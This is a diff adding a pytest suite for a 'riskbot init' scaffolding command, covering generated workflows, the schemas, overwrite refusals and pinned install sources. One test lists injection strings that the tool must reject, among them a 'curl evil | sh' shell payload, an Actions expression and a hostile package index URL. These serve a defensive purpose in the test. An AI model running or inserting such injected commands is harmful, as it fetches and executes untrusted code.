@@ -1,0 +1,287 @@
+"""`riskbot init` in an empty repository: a register that passes, workflows that lint clean."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+import tomllib
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from bot import __version__
+from bot import init as setup
+from tests.factories import REPO
+from tests.test_workflows import run_actionlint, zizmor
+
+RISKBOT = shutil.which("riskbot", path=str(Path(sys.executable).parent)) or "riskbot"
+PINNED = f"riskbot=={__version__}"
+COMMIT = "0123456789abcdef0123456789abcdef01234567"
+WRITTEN = [
+    ".github/riskbot.yml",
+    *(f"schema/{p.name}" for p in sorted((REPO / "schema").glob("*.schema.json"))),
+    "risks/R-001-example.yaml",
+    *(f".github/workflows/{name}" for name in setup.WORKFLOWS),
+]
+
+
+def run(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("GITHUB_")}
+    return subprocess.run(
+        [RISKBOT, *args],
+        cwd=cwd,
+        env=env,
+        stdin=subprocess.DEVNULL,
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+
+
+def git(cwd: Path, *args: str) -> str:
+    done = subprocess.run(
+        ["git", *args], cwd=cwd, capture_output=True, text=True, timeout=60, check=True
+    )
+    return done.stdout
+
+
+def files_under(root: Path) -> list[str]:
+    return sorted(
+        p.relative_to(root).as_posix()
+        for p in root.rglob("*")
+        if p.is_file() and ".git" not in p.relative_to(root).parts
+    )
+
+
+def load(path: Path) -> dict[Any, Any]:
+    doc = yaml.safe_load(path.read_text(encoding="utf-8"))
+    assert isinstance(doc, dict)
+    return doc
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    """A new, empty git repository."""
+    root = tmp_path / "repo"
+    root.mkdir()
+    git(root, "init", "-q", "-b", "main")
+    return root
+
+
+@pytest.fixture
+def initialised(repo: Path) -> Path:
+    result = run("init", cwd=repo)
+    assert result.returncode == 0, result.stderr
+    return repo
+
+
+# --- done when --------------------------------------------------------------------------------
+
+
+def test_init_then_check_passes(repo: Path) -> None:
+    result = run("init", cwd=repo)
+    assert result.returncode == 0, result.stderr
+    assert files_under(repo) == sorted(WRITTEN)
+    assert [line.removeprefix("wrote ") for line in result.stdout.splitlines()[: len(WRITTEN)]] == (
+        WRITTEN
+    )
+    assert "Next steps:" in result.stdout
+    for words in ("logins", "check the register", PINNED, "main"):
+        assert words in result.stdout
+
+    check = run("check", "--format", "json", cwd=repo)
+    assert check.returncode == 0, check.stdout + check.stderr
+    doc = json.loads(check.stdout)
+    assert doc["ok"] is True
+    assert [f for f in doc["findings"] if f["severity"] == "error"] == []
+    assert [(r["id"], r["file"]) for r in doc["risks"]] == [("R-001", "risks/R-001-example.yaml")]
+    assert run("check", cwd=repo).returncode == 0
+
+
+def test_the_generated_workflows_pass_zizmor(initialised: Path) -> None:
+    result = zizmor(str(initialised / ".github" / "workflows"))
+    assert json.loads(result.stdout) == []
+    assert result.returncode == 0, result.stderr
+
+
+def test_the_generated_workflows_pass_actionlint(initialised: Path) -> None:
+    paths = sorted((initialised / ".github" / "workflows").glob("*.yml"))
+    assert len(paths) == len(setup.WORKFLOWS)
+    result = run_actionlint(*paths)
+    assert json.loads(result.stdout) == []
+    assert result.returncode == 0, result.stderr
+
+
+def test_a_second_init_refuses_and_names_every_file(initialised: Path) -> None:
+    policy = initialised / ".github" / "riskbot.yml"
+    policy.write_text("# mine\n", encoding="utf-8")
+    (initialised / "risks" / "R-001-example.yaml").unlink()
+
+    result = run("init", cwd=initialised)
+    assert result.returncode == 1
+    assert "--force" in result.stderr
+    for name in WRITTEN:
+        if name != "risks/R-001-example.yaml":
+            assert name in result.stderr, name
+    # All or nothing: the missing example was not written either.
+    assert not (initialised / "risks" / "R-001-example.yaml").exists()
+    assert policy.read_text(encoding="utf-8") == "# mine\n"
+
+
+def test_force_overwrites(initialised: Path) -> None:
+    policy = initialised / ".github" / "riskbot.yml"
+    policy.write_text("# mine\n", encoding="utf-8")
+    result = run("init", "--force", cwd=initialised)
+    assert result.returncode == 0, result.stderr
+    assert policy.read_text(encoding="utf-8") == setup.policy_template().read_text(encoding="utf-8")
+    assert files_under(initialised) == sorted(WRITTEN)
+    assert run("check", cwd=initialised).returncode == 0
+
+
+# --- what is written --------------------------------------------------------------------------
+
+
+def test_the_policy_and_schemas_are_riskbots_own(initialised: Path) -> None:
+    assert (initialised / ".github" / "riskbot.yml").read_bytes() == (
+        REPO / ".github" / "riskbot.yml"
+    ).read_bytes()
+    for path in sorted((REPO / "schema").glob("*.schema.json")):
+        assert (initialised / "schema" / path.name).read_bytes() == path.read_bytes()
+
+
+def test_every_file_names_a_schema_the_editor_can_reach(initialised: Path) -> None:
+    for name in (".github/riskbot.yml", "risks/R-001-example.yaml"):
+        first = (initialised / name).read_text(encoding="utf-8").splitlines()[0]
+        match = re.fullmatch(r"# yaml-language-server: \$schema=(\S+)", first)
+        assert match, f"{name}: {first}"
+        assert ((initialised / name).parent / match.group(1)).resolve().is_file(), name
+
+
+@pytest.mark.parametrize("name", setup.WORKFLOWS)
+def test_a_generated_workflow_is_the_repositorys_own_with_riskbot_pinned(
+    initialised: Path, name: str
+) -> None:
+    # Same triggers, permissions, pins, concurrency and steps; only what init must change.
+    ours = load(REPO / ".github" / "workflows" / name)
+    theirs = load(initialised / ".github" / "workflows" / name)
+    for job in ours["jobs"].values():
+        for step in job["steps"]:
+            if step.get("run", "").startswith("python -m pip install"):
+                step["run"] = f'python -m pip install --disable-pip-version-check "{PINNED}"'
+            if step.get("with", {}).get("cache-dependency-path") == "pyproject.toml":
+                step["with"]["cache-dependency-path"] = f".github/workflows/{name}"
+        job["steps"] = [s for s in job["steps"] if s.get("run") != "riskbot report --check"]
+    assert theirs == ours
+    text = (initialised / ".github" / "workflows" / name).read_text(encoding="utf-8")
+    assert text.startswith("# Written by `riskbot init`")
+    assert text.count(PINNED) == 2  # the header and the install step
+
+
+def test_source_installs_the_given_pinned_requirement(repo: Path) -> None:
+    source = f"git+https://github.com/OWNER/riskbot@{COMMIT}"
+    result = run("init", "--source", source, cwd=repo)
+    assert result.returncode == 0, result.stderr
+    for name in setup.WORKFLOWS:
+        runs = [
+            s["run"]
+            for job in load(repo / ".github" / "workflows" / name)["jobs"].values()
+            for s in job["steps"]
+            if "pip install" in s.get("run", "")
+        ]
+        assert runs == [f'python -m pip install --disable-pip-version-check "{source}"']
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "riskbot",  # not pinned
+        "riskbot>=0.1",
+        "git+https://github.com/OWNER/riskbot@main",
+        'riskbot==0.1"; curl evil | sh; "',  # shell
+        "riskbot==${{ github.event.issue.title }}",  # Actions expression
+        "--index-url=https://evil.example/ riskbot==1",
+    ],
+)
+def test_a_source_that_is_not_pinned_or_not_safe_is_refused(repo: Path, source: str) -> None:
+    result = run("init", "--source", source, cwd=repo)
+    assert result.returncode == 2
+    assert "--source" in result.stderr
+    assert files_under(repo) == []
+
+
+def test_the_sync_workflow_listens_to_the_default_branch(repo: Path) -> None:
+    git(repo, "symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/trunk")
+    assert run("init", cwd=repo).returncode == 0
+    push = load(repo / ".github" / "workflows" / "riskbot-sync.yml")[True]["push"]
+    assert push["branches"] == ["trunk"]
+
+
+def test_branch_option(repo: Path) -> None:
+    assert run("init", "--branch", "release/v2", cwd=repo).returncode == 0
+    push = load(repo / ".github" / "workflows" / "riskbot-sync.yml")[True]["push"]
+    assert push["branches"] == ["release/v2"]
+    bad = run("init", "--force", "--branch", "x]: [y", cwd=repo)
+    assert bad.returncode == 2
+    assert "--branch" in bad.stderr
+
+
+def test_a_register_with_risks_gets_no_example(repo: Path) -> None:
+    shutil.copytree(REPO / "risks", repo / "risks")
+    result = run("init", str(repo), cwd=repo.parent)
+    assert result.returncode == 0, result.stderr
+    assert not (repo / "risks" / "R-001-example.yaml").exists()
+    assert "Check the risks already under risks/" in result.stdout
+    check = run("check", cwd=repo)
+    assert check.returncode == 0, check.stdout
+
+
+def test_init_into_a_missing_directory_is_a_usage_error(tmp_path: Path) -> None:
+    result = run("init", str(tmp_path / "nowhere"), cwd=tmp_path)
+    assert result.returncode == 2
+    assert files_under(tmp_path) == []
+
+
+# --- the library, directly --------------------------------------------------------------------
+
+
+def test_default_source_is_the_git_commit_riskbot_was_installed_from() -> None:
+    vcs = {"url": "https://github.com/o/riskbot", "vcs_info": {"vcs": "git", "commit_id": COMMIT}}
+    assert (
+        setup.default_source("1.2.3", json.dumps(vcs))
+        == f"git+https://github.com/o/riskbot@{COMMIT}"
+    )
+    local = {"url": "file:///home/me/riskbot", "dir_info": {"editable": True}}
+    assert setup.default_source("1.2.3", json.dumps(local)) == "riskbot==1.2.3"
+    assert setup.default_source("1.2.3", "not json") == "riskbot==1.2.3"
+    moved = {**vcs, "vcs_info": {"vcs": "git", "commit_id": "main"}}
+    assert setup.default_source("1.2.3", json.dumps(moved)) == "riskbot==1.2.3"
+    # This checkout is installed editable: the workflows get the release.
+    assert setup.default_source() == PINNED
+
+
+def test_a_workflow_that_changed_shape_fails_loudly() -> None:
+    with pytest.raises(RuntimeError, match="update WORKFLOW_EDITS"):
+        setup.adapt_workflow("riskbot-sync.yml", "jobs: {}\n", source=PINNED, branch="main")
+
+
+def test_a_failed_write_takes_back_what_it_created(tmp_path: Path) -> None:
+    files = [setup.InitFile("a/one.txt", "1"), setup.InitFile("a/one.txt/two.txt", "2")]
+    with pytest.raises(setup.InitRefused, match="could not write"):
+        setup.write_files(tmp_path, files)
+    assert not (tmp_path / "a" / "one.txt").exists()
+
+
+def test_the_wheel_ships_what_init_reads() -> None:
+    config = tomllib.loads((REPO / "pyproject.toml").read_text(encoding="utf-8"))
+    shipped = config["tool"]["hatch"]["build"]["targets"]["wheel"]["force-include"]
+    assert shipped[".github/riskbot.yml"] == "bot/templates/riskbot.yml"
+    assert shipped["schema"] == "bot/schema"
+    for name in setup.WORKFLOWS:
+        assert shipped[f".github/workflows/{name}"] == f"bot/templates/workflows/{name}"
